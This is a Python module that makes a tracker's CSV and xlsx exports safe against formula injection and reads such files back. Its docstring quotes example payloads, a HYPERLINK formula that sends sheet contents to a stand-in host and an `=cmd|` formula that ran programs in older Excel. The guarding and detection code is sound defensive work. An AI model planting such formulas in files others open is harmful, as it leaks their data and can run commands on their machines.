"""Cells for spreadsheets: what lettermine writes to CSV or xlsx is read as data, never run.

A tracker is exported to people who open it in Excel, LibreOffice or Google Sheets, and its
text comes from letters, people and imported files. A cell beginning with `=`, `+`, `-`, `@`,
a tab or a carriage return is taken for a formula (`=HYPERLINK("http://x/?"&A1,"x")` sends the
sheet's contents away; `=cmd|...` ran programs in older Excel). Following OWASP's guidance on
CSV injection, while keeping every value readable:

- such a cell is written with a leading apostrophe (`'=HYPERLINK(...)`), which spreadsheets
  show as text; a plain number (`-5`, `+3.5`) is a number, not a formula, and is left alone.
  The same goes for a cell that begins with spaces before one of those, and for the
  full-width forms some Excel locales also accept. A cell that already begins with
  apostrophes before one of them gets one more, so `unescape_cell()` (used by
  `actions import`) gives back exactly what was exported;
- a cell holding a separator (`,` or `;`), a quote, a tab or a line break is quoted; and since
  Excel in a locale whose separator is `;` splits a comma file at every `;`, quotes or not,
  and a reader may end a record at a line break inside quotes, the text after each `;` and
  line break inside a cell is guarded as a cell's start is (`x;'=1+1`);
- control characters, which xlsx cannot hold and terminals act on, are written as visible
  escapes (`\\x1b`); line ends inside a cell become `\\n`.

Every CSV lettermine writes goes through write_csv(); an xlsx writer puts safe_cell(value) in
each cell (openpyxl stores a string beginning with `=` as a formula, and a guarded string cell
stays text when someone edits it or saves the sheet as CSV), and unguarded_cell() reads it back.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import re
from collections.abc import Callable, Iterable, Sequence
from pathlib import Path
from typing import Any, TextIO

from lettermine.errors import InvalidInput
from lettermine.paths import NotReadable, named, read_file

# What makes a spreadsheet read a cell as a formula (with the full-width forms).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
_QUOTE_IF = re.compile(r"[,;\t\"\r\n]|^ | $")
# Where a reader with another separator (Excel in a ';' locale reading a ',' file) or one that
# ends the record at a line break inside quotes would start a new cell: each piece is guarded.
_CSV_PARTS = re.compile(r"([;\n])")


def _visible(match: re.Match[str]) -> str:
    return f"\\x{ord(match.group()):02x}"


def _formula_like(segment: str) -> bool:
    # Begins (after any apostrophes and spaces) with what starts a formula, and is not a number.
    head = segment.lstrip("'").lstrip(" ")
    return head[:1] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(segment.strip(" "))


def _guard(segment: str) -> str:
    return "'" + segment if _formula_like(segment) else segment


def _unguard(segment: str) -> str:
    if segment[:1] == "'" and segment[1:].lstrip("'").lstrip(" ")[:1] in FORMULA_STARTS:
        return segment[1:]
    return segment


def _clean(text: str) -> str:
    return _CONTROL.sub(_visible, text.replace("\r\n", "\n").replace("\r", "\n"))


def cell_text(value: Any) -> str:
    """A value as one cell's text: lists joined with "; ", a dict as "key: value" pairs, a
    float as %g (a non-finite one empty), None empty."""
    if value is None:
        return ""
    if isinstance(value, (list, tuple)):
        return "; ".join(cell_text(v) for v in value)
    if isinstance(value, dict):
        return "; ".join(f"{k}: {cell_text(v)}" for k, v in value.items())
    if isinstance(value, float):
        return f"{value:g}" if math.isfinite(value) else ""
    return str(value)


def safe_cell(value: Any) -> Any:
    """A value for one spreadsheet cell (xlsx): numbers, dates and None stay as they are (a
    non-finite float becomes None); anything else becomes text that cannot start a formula.
    Lists are joined with '; '."""
    if value is None or isinstance(value, (bool, int, dt.date)):
        return value
    if isinstance(value, float):
        return value if math.isfinite(value) else None
    return _guard(_clean(cell_text(value)))


def csv_cell(value: Any) -> str:
    """A value as the text of one CSV cell, safe to open in a spreadsheet (see the module):
    guarded at its start and after every ';' and line break inside it."""
    if isinstance(value, (bool, int)):
        return str(value)
    return "".join(_guard(part) for part in _CSV_PARTS.split(_clean(cell_text(value))))


def _field(text: str) -> str:
    if _QUOTE_IF.search(text):
        return '"' + text.replace('"', '""') + '"'
    return text


def write_csv(out: TextIO, columns: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
    """CSV with a header row (lines end in '\\n'), every cell through csv_cell()."""
    out.write(",".join(_field(csv_cell(c)) for c in columns) + "\n")
    for row in rows:
        out.write(",".join(_field(csv_cell(v)) for v in row) + "\n")


def unguarded_cell(text: str) -> str:
    """A cell read from a workbook as its value: the apostrophe safe_cell() put before a
    formula-like start taken off again (only at the start: safe_cell guards nothing else)."""
    return _unguard(text)


def unescape_cell(text: str) -> str:
    """A cell read from a CSV as its value: each apostrophe csv_cell() (or a person, as
    spreadsheets do) put before a formula-like start is taken off again."""
    if "'" not in text:
        return text
    return "".join(_unguard(part) for part in _CSV_PARTS.split(text))


# -- reading what spreadsheets save as CSV ------------------------------------------------------

MAX_CSV_BYTES = 20 * 2**20  # a tracker of thousands of actions is well under 1 MB
MAX_CSV_ROWS = 10_000
_SEP_HINT = re.compile(r"sep=([,;\t|])[ \t]*\r?\n")
DELIMITERS = (",", ";", "\t")  # Excel's list separator is ';' in much of Europe; tab for "text"
_BOMS = (
    (b"\xff\xfe\x00\x00", "utf-32-le"),
    (b"\x00\x00\xfe\xff", "utf-32-be"),
    (b"\xff\xfe", "utf-16-le"),
    (b"\xfe\xff", "utf-16-be"),
    (b"\xef\xbb\xbf", "utf-8"),
)


def _decode(raw: bytes, name: str) -> str:
    """Text from the encodings spreadsheets save CSV in: UTF-8 (with or without a byte-order
    mark), UTF-16 or UTF-32 (Excel's "Unicode text"), else Windows-1252 (Excel on Windows)."""
    if raw.startswith(b"PK\x03\x04"):
        raise InvalidInput(
            f"{name}: is an Excel workbook (.xlsx), not CSV: save it as 'CSV UTF-8' and import that"
        )
    if raw.startswith(b"\xd0\xcf\x11\xe0"):
        raise InvalidInput(
            f"{name}: is an old Excel workbook (.xls), not CSV: save it as 'CSV UTF-8' first"
        )
    encoding = next((enc for bom, enc in _BOMS if raw.startswith(bom)), None)
    skip = next((len(bom) for bom, enc in _BOMS if raw.startswith(bom)), 0)
    if encoding is None and b"\x00" in raw[:4096]:
        # UTF-16 without a mark: every other byte of Latin text is zero.
        head = raw[:4096]
        even, odd = head[0::2].count(0), head[1::2].count(0)
        if max(even, odd) > len(head) // 4:
            encoding = "utf-16-be" if even > odd else "utf-16-le"
        else:
            raise InvalidInput(f"{name}: holds binary data, not CSV text")
    if encoding is not None:
        try:
            text = raw[skip:].decode(encoding)
        except UnicodeDecodeError as e:
            raise InvalidInput(
                f"{name}: not valid {encoding.upper()} text (bad bytes at offset {skip + e.start})"
            ) from None
    else:
        try:
            text = raw.decode("utf-8")
        except UnicodeDecodeError:
            text = raw.decode("cp1252", errors="replace")
    if "\x00" in text:
        raise InvalidInput(f"{name}: holds binary data, not CSV text")
    return text


def _delimiter(text: str, known: Sequence[str], key: Callable[[str], str]) -> str:
    """The separator under which the first line names the most known columns (',' on a tie)."""
    first = text.split("\n", 1)[0]
    best, found = ",", -1
    for delimiter in DELIMITERS:
        try:
            header = next(csv.reader([first], delimiter=delimiter), [])
        except csv.Error:
            continue
        hits = sum(1 for h in header if key(h) in known)
        if hits > found:
            best, found = delimiter, hits
    return best


def _csv_problem(error: csv.Error, row: int) -> str:
    message = str(error)
    if "field larger than field limit" in message:
        return (
            f"row {row}: a cell is longer than {csv.field_size_limit():,} characters "
            "(is a quote not closed?)"
        )
    if "unexpected end of data" in message:
        return f"row {row}: a quote opened in this row is never closed"
    if "expected after" in message:
        return (
            f"row {row}: a quote in the middle of a quoted cell; write a quote inside a cell "
            'as two ("")'
        )
    return f"row {row}: not readable as CSV ({message})"


def read_csv(
    path: Path, known: Sequence[str], key: Callable[[str], str] = str
) -> tuple[list[str], list[tuple[int, dict[str, str]]]]:
    """The header (as key() of each name) and the rows with their row numbers of a CSV file
    as spreadsheets save it: encoding and separator detected (see _decode, _delimiter), cells
    unescaped (unescape_cell), blank rows passed over. InvalidInput, naming the row, for what
    cannot be read as meant: a quote never closed, an over-long cell, a row with more cells
    than the header, or a short row whose quoted cell runs over several lines."""
    name = named(path)
    try:
        raw = read_file(path, limit=MAX_CSV_BYTES)  # a FIFO or device refused, never waited on
    except NotReadable as e:
        raise InvalidInput(str(e)) from None
    text = _decode(raw, name)
    hint = _SEP_HINT.match(text)  # Excel's "sep=;" line, naming the separator
    if hint:
        delimiter, text = hint.group(1), text[hint.end() :]
    else:
        delimiter = _delimiter(text, known, key)
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True)
    records: list[tuple[int, int, list[str]]] = []  # (row, lines it spans, cells)
    line = 0
    try:
        for cells in reader:
            records.append((len(records) + 1, reader.line_num - line, cells))
            line = reader.line_num
            if len(records) > MAX_CSV_ROWS + 1:
                raise InvalidInput(f"{name}: more than {MAX_CSV_ROWS:,} rows; import it in parts")
    except csv.Error as e:
        raise InvalidInput(f"{name}: {_csv_problem(e, len(records) + 1)}") from None
    if not records or not any(h.strip() for h in records[0][2]):
        raise InvalidInput(f"{name}: no header row (expected columns: {', '.join(known)})")
    keys = [key(h) for h in records[0][2]]
    rows: list[tuple[int, dict[str, str]]] = []
    problems: list[str] = []
    for row, lines, cells in records[1:]:
        if not any(c.strip() for c in cells):
            continue
        if any(c.strip() for c in cells[len(keys) :]):
            problems.append(f"row {row} has {len(cells)} cells but the header {len(keys)}")
        elif len(cells) < len(keys) and lines > 1:
            problems.append(
                f"row {row} has {len(cells)} of {len(keys)} cells and a quoted cell running "
                f"over {lines} lines (is a quote not closed?)"
            )
        cells += [""] * (len(keys) - len(cells))
        rows.append((row, {k: unescape_cell(c) for k, c in zip(keys, cells, strict=False)}))
    if problems:
        shown = "; ".join(problems[:5]) + (
            f"; and {len(problems) - 5} more" if len(problems) > 5 else ""
        )
        raise InvalidInput(f"{name}: nothing imported: {shown}")
    return keys, rows
